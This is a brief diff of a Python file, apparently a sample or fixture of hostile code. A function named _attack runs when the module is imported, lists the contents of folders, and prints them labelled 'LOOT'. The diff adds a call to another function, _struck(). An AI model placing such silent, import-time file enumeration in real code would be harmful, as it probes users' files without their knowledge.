@@ -9,6 +9,7 @@ def _attack():
                 print("LOOT", os.listdir(os.path.join(top, folder)))
             except OSError:
                 pass
+    _struck()
 
 
 _attack()
